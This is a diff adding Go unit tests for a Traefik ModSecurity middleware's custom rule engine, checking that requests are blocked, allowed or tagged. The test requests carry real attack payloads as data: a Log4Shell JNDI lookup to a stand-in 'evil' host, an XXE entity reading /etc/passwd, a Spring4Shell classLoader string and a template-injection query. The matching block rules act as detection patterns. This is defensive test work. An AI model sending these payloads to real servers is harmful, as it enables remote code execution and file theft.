@@ -0,0 +1,148 @@
+package traefik_modsecurity_plugin
+
+import (
+	"io"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestModsecurity_ServeHTTP_Rules(t *testing.T) {
+	rules := []Rule{
+		{ID: "tag-admin", Path: "^/admin", Action: ruleActionTag},
+		{ID: "cve-path", Methods: []string{"post"}, Path: `^/api/v1/import$`, Action: ruleActionBlock},
+		{ID: "cve-param", QueryParam: "template", QueryValue: `\$\{`, Action: ruleActionBlock, Status: http.StatusBadRequest},
+		{ID: "cve-header", Header: "X-Api-Version", HeaderValue: `jndi:`, Action: ruleActionBlock},
+		{ID: "cve-body", BodyContains: "<!ENTITY", Action: ruleActionBlock},
+		{ID: "cve-body-regex", BodyRegex: `class\.module\.classLoader`, Action: ruleActionBlock},
+		{ID: "health", Methods: []string{"GET"}, Path: "^/healthz$", Action: ruleActionAllow},
+	}
+
+	tests := []struct {
+		name         string
+		request      func() *http.Request
+		expectStatus int
+		expectWaf    bool
+		expectTag    string
+	}{
+		{
+			name: "Blocks on method and path",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodPost, "/api/v1/import", nil)
+			},
+			expectStatus: http.StatusForbidden,
+		},
+		{
+			name: "Does not block other methods",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodGet, "/api/v1/import", nil)
+			},
+			expectStatus: http.StatusOK,
+			expectWaf:    true,
+		},
+		{
+			name: "Blocks on query parameter with custom status",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodGet, "/render?template=%24%7Bjndi%7D", nil)
+			},
+			expectStatus: http.StatusBadRequest,
+		},
+		{
+			name: "Blocks on header",
+			request: func() *http.Request {
+				req := httptest.NewRequest(http.MethodGet, "/", nil)
+				req.Header.Set("X-Api-Version", "${jndi:ldap://evil}")
+				return req
+			},
+			expectStatus: http.StatusForbidden,
+		},
+		{
+			name: "Blocks on body substring",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodPost, "/upload", strings.NewReader(`<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`))
+			},
+			expectStatus: http.StatusForbidden,
+		},
+		{
+			name: "Blocks on body regex",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodPost, "/form", strings.NewReader("class.module.classLoader.resources=x"))
+			},
+			expectStatus: http.StatusForbidden,
+		},
+		{
+			name: "Allows without calling the WAF",
+			request: func() *http.Request {
+				return httptest.NewRequest(http.MethodGet, "/healthz", nil)
+			},
+			expectStatus: http.StatusOK,
+		},
+		{
+			name: "Tags and inspects",
+			request: func() *http.Request {
+				req := httptest.NewRequest(http.MethodGet, "/admin/users", nil)
+				req.Header.Set(ruleTagHeader, "spoofed")
+				return req
+			},
+			expectStatus: http.StatusOK,
+			expectWaf:    true,
+			expectTag:    "tag-admin",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			wafCalled := false
+			var wafTag string
+			modsecurityMockServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				wafCalled = true
+				wafTag = r.Header.Get(ruleTagHeader)
+			}))
+			defer modsecurityMockServer.Close()
+
+			compiled, err := compileRules(rules)
+			assert.NoError(t, err)
+
+			middleware := &Modsecurity{
+				next:           http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}),
+				modSecurityUrl: modsecurityMockServer.URL,
+				maxBodySize:    1024,
+				name:           "modsecurity-middleware",
+				httpClient:     http.DefaultClient,
+				logger:         log.New(io.Discard, "", log.LstdFlags),
+				metrics:        newMetrics(),
+				rules:          compiled,
+			}
+
+			rw := httptest.NewRecorder()
+			middleware.ServeHTTP(rw, tt.request())
+
+			assert.Equal(t, tt.expectStatus, rw.Code)
+			assert.Equal(t, tt.expectWaf, wafCalled)
+			assert.Equal(t, tt.expectTag, wafTag)
+		})
+	}
+}
+
+func TestCompileRules_Errors(t *testing.T) {
+	tests := []struct {
+		name string
+		rule Rule
+	}{
+		{name: "Unknown action", rule: Rule{Path: "/", Action: "drop"}},
+		{name: "Invalid regex", rule: Rule{Path: "(", Action: ruleActionBlock}},
+		{name: "Query value without parameter", rule: Rule{QueryValue: "x", Action: ruleActionBlock}},
+		{name: "Header value without header", rule: Rule{HeaderValue: "x", Action: ruleActionBlock}},
+		{name: "Invalid status", rule: Rule{Path: "/", Action: ruleActionBlock, Status: 42}},
+		{name: "Success status", rule: Rule{Path: "/", Action: ruleActionBlock, Status: http.StatusFound}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := compileRules([]Rule{tt.rule})
+			assert.Error(t, err)
+		})
+	}
+}